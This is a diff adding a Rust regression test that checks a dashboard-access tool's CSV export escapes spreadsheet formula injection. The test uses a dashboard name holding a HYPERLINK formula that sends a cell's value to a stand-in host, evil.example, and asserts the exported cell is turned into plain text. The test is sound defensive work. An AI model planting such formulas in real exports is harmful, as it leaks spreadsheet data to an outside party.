@@ -13,6 +13,59 @@ fn access(extra: &[&str]) -> String {
     String::from_utf8(output.stdout).unwrap()
 }
 
+/// A dashboard named `=HYPERLINK(…)` on the site: in `access --format csv`,
+/// opened in a spreadsheet, it was a formula that sends data away on a
+/// click. Every cell that starts like a formula is text now.
+#[test]
+fn a_formula_in_a_dashboard_name_is_text_in_the_csv() {
+    let mut site: serde_json::Value = serde_json::from_str(
+        &std::fs::read_to_string(root().join("examples/small-team/sandbox.json")).unwrap(),
+    )
+    .unwrap();
+    let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"Revenue")"#;
+    site["dashboards"]
+        .as_array_mut()
+        .unwrap()
+        .extend([
+            serde_json::json!({"id": "9999", "name": evil}),
+            serde_json::json!({"id": "9998", "name": "@SUM(1+1)"}),
+        ]);
+    let dir = tempfile::tempdir().unwrap();
+    let snapshot = dir.path().join("site.json");
+    std::fs::write(&snapshot, site.to_string()).unwrap();
+    let out = run(
+        &root(),
+        &[
+            "access",
+            "--sandbox",
+            snapshot.to_str().unwrap(),
+            "-f",
+            "examples/small-team",
+            "--format",
+            "csv",
+            "--expand-admins",
+        ],
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", transcript(&out));
+    let csv = String::from_utf8_lossy(&out.stdout);
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let mut seen = 0;
+    for record in reader.records() {
+        let record = record.unwrap();
+        for cell in record.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a formula cell: {cell:?}"
+            );
+        }
+        if record.get(1) == Some("9999") {
+            assert_eq!(record.get(2), Some(format!("'{evil}").as_str()));
+            seen += 1;
+        }
+    }
+    assert!(seen > 0, "the hostile dashboard is listed: {csv}");
+}
+
 #[test]
 fn access_in_every_format() {
     insta::assert_snapshot!(access(&["--dashboard", "Cash Flow"]), @r#"
